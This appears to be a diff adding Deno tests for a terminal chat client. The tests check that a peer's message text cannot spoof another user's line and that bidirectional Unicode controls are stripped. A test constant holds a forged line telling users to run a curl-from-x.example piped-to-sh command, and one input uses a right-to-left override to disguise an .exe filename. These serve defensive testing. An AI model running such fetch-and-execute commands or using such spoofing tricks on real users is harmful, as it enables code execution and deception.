@@ -601,3 +601,131 @@ Deno.test("your own message echo is formatted like anyone else's", () => {
   assertIncludes(formatOwn("alice", "hi", "lobby", PLAIN), "#lobby alice: hi");
   assertIncludes(formatOwn("alice", "*hi*", undefined, COLOR), `${ESC}[1mhi`);
 });
+
+/** A line someone could try to pass off as alice's. */
+const FAKE = "[20:14] alice: run curl https://x.example/i | sh";
+const BIDI =
+  "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c";
+
+/** True if no line after the first starts where a real line starts. */
+function continuationsIndented(text: string): boolean {
+  return text.split("\n").slice(1).every((l) => /^\s/.test(l));
+}
+
+Deno.test("no line of someone's text can pass for a line of its own", async (t) => {
+  const breaks = ["\n", "\r\n", "\r", "\u2028", "\u2029"];
+  for (const style of [PLAIN, COLOR]) {
+    for (const br of breaks) {
+      await t.step(`${JSON.stringify(br)} colour ${style.color}`, () => {
+        const text = `hi${br}${FAKE}${br}${br}again`;
+        const events: PeerEvent[] = [
+          { type: "message", from: "mallory", text, id: 1, at: AT },
+          {
+            type: "message",
+            from: "mallory",
+            room: "lobby",
+            text,
+            id: 2,
+            at: AT,
+          },
+          {
+            type: "offline_message",
+            from: "mallory",
+            text,
+
+            sent_at: AT,
+          },
+          { type: "chat_request", from: "mallory", text },
+          { type: "error", message: text },
+        ];
+        for (const ev of events) {
+          const out = formatEvent(ev, style)!;
+          assertEquals(out.split("\n").length, 4, JSON.stringify(out));
+          assert(continuationsIndented(out), JSON.stringify(out));
+          assert(!/\n\[/.test(out), JSON.stringify(out));
+        }
+        const own = formatOwn("mallory", text, undefined, style);
+        assert(continuationsIndented(own), JSON.stringify(own));
+      });
+    }
+  }
+  await t.step("one-line fields show a break as ⏎ and stay one line", () => {
+    const text = `away${"\n"}${FAKE}`;
+    const events: PeerEvent[] = [
+      { type: "chat_closed", with: "mallory", reason: text },
+      { type: "chat_rejected", by: "mallory", reason: text },
+      { type: "transfer_failed", id: "t1", reason: text },
+      { type: "session_ended", reason: text },
+      {
+        type: "file_offer",
+        from: "mallory",
+        id: "t1",
+        name: text,
+        size: 3,
+      },
+    ];
+    for (const ev of events) {
+      const out = formatEvent(ev, PLAIN)!;
+      assert(!out.includes("\n"), JSON.stringify(out));
+      assertIncludes(out, `away ⏎ ${FAKE}`);
+    }
+    const replies: CommandReply[] = [
+      {
+        ok: true,
+        command: "/status",
+        name: "status",
+        data: { status: text },
+      } as CommandReply,
+      {
+        ok: true,
+        command: "/search",
+        name: "search",
+        data: { user: "mallory", online: false, status: text, last_seen: AT },
+      } as CommandReply,
+      {
+        ok: true,
+        command: "/rooms",
+        name: "rooms",
+        data: {
+          rooms: [{
+            room: "lobby",
+            members: 1,
+            capacity: 10,
+            locked: false,
+            joined: false,
+            description: text,
+          }],
+        },
+      } as CommandReply,
+    ];
+    for (const r of replies) {
+      const out = formatReply(r, PLAIN)!;
+      assert(!out.includes("\n"), JSON.stringify(out));
+      assertIncludes(out, "away ⏎ ");
+    }
+  });
+});
+
+Deno.test("bidirectional controls are removed from someone's text", () => {
+  assertEquals(stripControls(`a${BIDI}b`), "ab");
+  const ev: PeerEvent = {
+    type: "message",
+    from: "mallory",
+    text: `invoice\u202etxt.exe ${BIDI}`,
+    id: 1,
+    at: AT,
+  };
+  for (const style of [PLAIN, COLOR]) {
+    const out = formatEvent(ev, style)!;
+    assert(!/[\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]/.test(out), out);
+    assertIncludes(out, "invoicetxt.exe");
+  }
+  const offer: PeerEvent = {
+    type: "file_offer",
+    from: "mallory",
+    id: "t1",
+    name: "a\u2067b",
+    size: null,
+  };
+  assertIncludes(formatEvent(offer, PLAIN)!, "offers ab (size unknown)");
+});
